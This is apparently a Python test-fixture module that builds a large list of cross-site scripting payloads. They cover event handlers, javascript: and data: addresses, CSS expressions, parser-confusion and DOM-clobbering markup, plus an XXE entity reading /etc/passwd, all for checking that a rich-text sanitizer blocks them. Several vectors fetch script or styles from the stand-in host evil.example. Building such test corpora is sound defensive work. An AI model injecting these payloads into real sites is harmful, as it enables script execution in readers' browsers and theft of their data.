"""Narratives that somebody might store to run a script in a reader's browser: the known families, by combination.

Each calls `alert(1)`, sets `window.canary`, or asks for something at evil.example; none may happen.
"""

from itertools import product

RUN = "alert(1)"
HANDLERS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onfocusin",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
]
ELEMENTS = [
    "p",
    "a",
    "b",
    "li",
    "td",
    "th",
    "h3",
    "table",
    "ul",
    "br",
    "div",
    "span",
    "img",
    "input",
    "video",
    "audio",
    "body",
    "svg",
    "math",
    "details",
    "marquee",
    "iframe",
    "select",
    "form",
    "button",
    "textarea",
    "style",
    "isindex",
    "x-y",
    "object",
    "embed",
    "keygen",
    "object",
    "font",
    "meter",
    "dialog",
]
KNOWN = ["p", "a", "strong", "em", "ul", "ol", "li", "h3", "h4", "table", "tr", "td", "th", "br"]
SCHEMES = ["javascript", "vbscript", "data", "livescript", "mocha", "jar", "feed", "blob", "filesystem", "view-source"]
QUOTES = ("'{}'", '"{}"', "{}", "`{}`")


def _handlers() -> list[str]:
    """An event's script on every element, in every way that an attribute can be written."""
    found = [f"<{element} {HANDLERS[n % len(HANDLERS)]}={RUN}>x</{element}>" for n, element in enumerate(ELEMENTS)]
    found += [f"<{one} {handler}={RUN} autofocus tabindex=1>x</{one}>" for one, handler in product(KNOWN, HANDLERS[:5])]
    between = ("/", "\t", "\n", "\r", "\f", "\x0b", "\x00", "/x/", " a='>' ", ' title="</p>" ')
    found += [f"<p{space}onclick={RUN}>x</p>" for space in between]
    found += [f"<img src=x:x{space}onerror={RUN}>" for space in between]
    names = ("ONCLICK", "OnClick", "on\x00click", "on\tclick", "onclick ", "onclick\n", "&#111;nclick", "xlink:onclick")
    found += [f"<a href=x {name}={RUN}>x</a>" for name in names]
    return found


def _addresses() -> list[str]:
    """Addresses that run something, in every disguise that browsers have looked through."""
    spelt = [f"{scheme}:{RUN}" for scheme in SCHEMES]
    spelt += ["JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "\x01javascript:alert(1)"]
    spelt += ["java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "java\x00script:alert(1)"]
    spelt += ["java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert&lpar;1&rpar;"]
    spelt += ["&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#x6Aavascript:1"]
    spelt += ["javascript&#58;alert(1)", "&#14; javascript:alert(1)", "\u2028javascript:alert(1)", "javascript\u200b:1"]
    spelt += ["javas\u017fcript:alert(1)", "\ufeffjavascript:alert(1)", "javascript://%0aalert(1)", "javascript:/**/1"]
    spelt += ["data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="]
    spelt += [
        "data:image/svg+xml,<svg onload=alert(1)>",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https:javascript:1",
    ]
    spelt += [
        "mailto:x@evil.example?\nbcc:y",
        'http://evil.example/"onclick=alert(1)//',
        "https://x' onclick='alert(1)",
    ]
    attributes = [f"<a href={quote.format(one)}>x</a>" for one, quote in zip(spelt, QUOTES * len(spelt), strict=False)]
    places = ("<iframe src={}>", "<embed src={}>", "<object data={}>", "<form action={}><button>x</button></form>")
    places += ("<button formaction={}>x</button>", "<img src={}>", "<img srcset='{} 1x'>", "<video poster={}>")
    places += ("<base href={}>", "<link rel=stylesheet href={}>", "<svg><a xlink:href={}><text>x</text></a></svg>")
    places += ("<math href={}>x</math>", "<body background={}>", "<input type=image src={}>", "<table background={}>")
    places += ("<meta http-equiv=refresh content='0;url={}'>", "<a ping={} href=#>x</a>", "<blockquote cite={}>x")
    places += (
        "<svg><use href={} /></svg>",
        "<svg><image href={} /></svg>",
        "<svg><set attributeName=href to={} /></svg>",
    )
    places += (
        "<iframe srcdoc='<script>alert(1)</script>' src={}>",
        "<portal src={}>",
        "<track src={}>",
        "<frame src={}>",
    )
    bad = ("javascript:alert(1)", "https://evil.example/x", "data:text/html,<script>alert(1)</script>")
    return attributes + [place.format(one) for place, one in product(places, bad)]


def _styles() -> list[str]:
    rules = ["width:expression(alert(1))", "background:url(javascript:alert(1))", "behavior:url(//evil.example/x.htc)"]
    rules += [
        "@import '//evil.example/x.css'",
        "-moz-binding:url(//evil.example/x)",
        "background:url(//evil.example/x)",
    ]
    rules += [
        "position:fixed;inset:0;z-index:99",
        "wid\\74h:expres\\73ion(alert(1))",
        "list-style:url(//evil.example/y)",
    ]
    found = [form.format(rule) for rule, form in product(rules, ("<p style='{}'>x</p>", "<style>p{{{}}}</style>"))]
    return found + ["<style>@import'//evil.example/x';</style>", "<link rel=import href=//evil.example/x>"]


def _confused() -> list[str]:
    """Text that one parser reads as an element's content and the next as markup."""
    raw = [
        "style",
        "script",
        "title",
        "textarea",
        "noscript",
        "template",
        "xmp",
        "plaintext",
        "noembed",
        "noframes",
        "iframe",
        "math",
        "svg",
    ]
    payload = "<img src=x:x onerror=alert(1)>"
    found = [f"<{one}><p title='</{one}>{payload}'>x</{one}>" for one in raw]
    found += [f"<{outer}><{inner}></{outer}>{payload}" for outer, inner in product(("svg", "math", "table", "p"), raw)]
    found += [f"<svg><{inner}>{payload}</{inner}></svg>" for inner in ("foreignObject", "desc", "title", "script", "a")]
    found += [f"<math><mtext><table><mglyph><style><!--</style>{payload}--></style></mglyph></table></mtext></math>"]
    found += [f"<math><mi//xlink:href='data:x,<script>alert(1)</script>'>{payload}</math>"]
    found += [f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{payload}'>"]
    found += [f"<svg></p><style><a id='</style>{payload}'>", f"<noscript><p title='</noscript>{payload}'></noscript>"]
    found += [f"<math><annotation-xml encoding='text/html'><style><img title='</style>{payload}'></annotation-xml>"]
    found += ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><script>alert&#40;1)</script></svg>"]
    found += ["<svg><script xlink:href=data:,alert(1) /></svg>", "<svg/onload=alert(1)>", "<svg\nonload=alert(1)//"]
    found += [f"<table><caption>{payload}</caption><td><svg><style>{payload}</style></table>", "<isindex action=j:1>"]
    return found


def _broken() -> list[str]:
    """Markup that no parser should have to read."""
    found = ["<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\x00>alert(1)</script>"]
    found += [
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<script/x>alert(1)</script>",
    ]
    found += [
        "<script>window.canary = 1</script>",
        "<script src=data:,alert(1)></script>",
        "<script a='>'>alert(1)</script>",
    ]
    found += ['<img """><script>alert(1)</script>">', "<img src=x onerror=alert(1)//", "<p/onclick=alert(1)>x"]
    found += ["<!--><img src=x:x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"]
    found += [
        "<!-- --!><img src=x:x onerror=alert(1)> -->",
        "<![CDATA[<img src=x:x onerror=alert(1)>]]>",
        "<? alert(1) ?>",
    ]
    found += [
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
        "<?xml-stylesheet href='javascript:1'?>",
    ]
    found += [
        "<a <img src=x:x onerror=alert(1)>>x</a>",
        "<a href='x'onclick='alert(1)'>x",
        "<p\x0conclick\x0c=\x0calert(1)>",
    ]
    found += ["</p></td></table></div></main><script>alert(1)</script>", "<td><tr></ul><li onclick=alert(1)><table><p>"]
    found += [
        "\x3cimg src=x:x onerror=alert(1)\x3e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\uff1cscript\uff1ealert(1)",
    ]
    found += [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u2028<script>alert(1)</script>\u2029",
        "\ud83d<img onerror=1>",
    ]
    found += ["{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "{% load x %}{{ x|safe }}", "<%= alert(1) %>"]
    found += ["<" * 300, "<p>" * 300 + "<img src=x:x onerror=alert(1)>", "<b><i>" * 200, "<a href=" + "x" * 3000 + ">x"]
    return found


def _clobbering() -> list[str]:
    """Ids and names that a page's own script could trip over, and attributes named like what objects have."""
    names = [
        "saving",
        "conflict",
        "newer",
        "on-device",
        "id_narrative",
        "main",
        "csrfmiddlewaretoken",
        "version",
        "body",
        "cookie",
    ]
    names += ["constructor", "__proto__", "prototype", "hasOwnProperty", "toString"]
    found = [f"<a id={name} name={name} href=https://example.org/>x</a>" for name in names]
    found += [f"<form id={name}><input name={name} value=1></form>" for name in names]
    found += [
        f"<p {name}=1 data-autosave=//evil.example data-user=1 data-rich-text class=notice>x</p>" for name in names
    ]
    return found + ["<form data-autosave=//evil.example/ data-needing-recovery=G><input name=version></form>"]


VECTORS = [*_handlers(), *_addresses(), *_styles(), *_clobbering(), *_broken(), *_confused()]
"""Some leave an element open and so swallow what follows them: those stand last."""
